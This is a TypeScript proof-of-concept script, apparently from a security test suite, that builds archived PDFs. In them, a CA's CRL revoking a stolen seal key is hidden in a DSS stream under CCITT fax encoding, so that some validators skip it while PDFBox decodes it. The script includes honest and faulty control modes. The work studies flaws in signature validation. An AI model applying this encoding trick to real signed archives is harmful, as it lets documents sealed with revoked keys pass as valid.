// a27 (b515ac0, target 2): b515ac0 leaves a DSS OCSP/CRL stream "junk" (ignored) only when its /Filter names a filter
// no reader decodes: an image filter or an unknown name. But PDFBox (EU DSS) decodes /CCITTFaxDecode itself (its
// CCITTFaxFilter, no plugin), losslessly: a CRL's DER as a 1-bit bitmap, Group 4 coded, is the CRL to PDFBox.
// attack-s6 G1's scenario (lib.revokedSealed: the seal key stolen, the CA revokes at 08:06, the thief seals at 08:36
// with the CA's "good" of 07:36 in the CMS; the archivist's DSS holds the CA's CRL listing the seal, under an archive
// timestamp): only how that CRL stream is stored changes. Needs netpbm (pamtotiff): apt-get install netpbm.
// modes:
//   honest        FlateDecode (control: TOTAL-FAILED / REVOKED)
//   g4-b1         /CCITTFaxDecode /DecodeParms << /K -1 /Columns 128 /Rows n /BlackIs1 true >>: the CRL's bytes, 16 a
//                 row (zero-padded), Group 4 coded (pamtotiff -g4); PDFBox decodes to the CRL (+ zero padding)
//   g4            the same with the bits inverted and /BlackIs1 false (the default)
//   g3            /K 0 (Modified Huffman, pamtotiff -g3), /BlackIs1 true
//   ccf           g4-b1 under the abbreviation /CCF
//   g4-wrong      control: the inverted bits with /BlackIs1 true (PDFBox decodes the CRL inverted: no CRL)
//   npx tsx scripts/attack-s22/dss-ccitt.ts <mode>      (DSS=1 adds EU DSS)
import { BYTES, ccitt } from "./ccitt.js";
import { dss, save, show, verify, work } from "../attack36/lib.js";
import { archivedWith, revokedSealed, type Stream } from "../attack-s6/lib.js";

const MODES = ["honest", "g4-b1", "g4", "g3", "ccf", "g4-wrong"];
const mode = process.argv[2] ?? "g4-b1";
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}`);
const latin = (b: Uint8Array) => Buffer.from(b).toString("latin1");
const { sealed, crl, compromise } = await revokedSealed();

const stream = (name: string, k: number, invert: boolean, blackIs1: boolean): Stream => {
  const { coded, rows } = ccitt(crl, invert, k === 0);
  const parms = `/K ${k} /Columns ${BYTES * 8} /Rows ${rows}${blackIs1 ? " /BlackIs1 true" : ""}`;
  return { raw: `<< /Filter /${name} /DecodeParms << ${parms} >> /Length ${coded.length} >>\nstream\n${latin(coded)}\nendstream` };
};
const streams: Record<string, () => Stream> = {
  honest: () => ({ bytes: crl }),
  "g4-b1": () => stream("CCITTFaxDecode", -1, false, true),
  g4: () => stream("CCITTFaxDecode", -1, true, false),
  g3: () => stream("CCITTFaxDecode", 0, false, true),
  ccf: () => stream("CCF", -1, false, true),
  "g4-wrong": () => stream("CCITTFaxDecode", -1, true, true),
};
const file = save(work(`a27-ccitt-${mode}`), "archive.pdf", await archivedWith(sealed, streams[mode]!()));
console.log(`wrote ${file}: seal revoked ${compromise.toISOString()}; the CA's CRL listing it in a DSS (${mode}), under an archive timestamp`);
show(mode, verify(file));
dss(file);
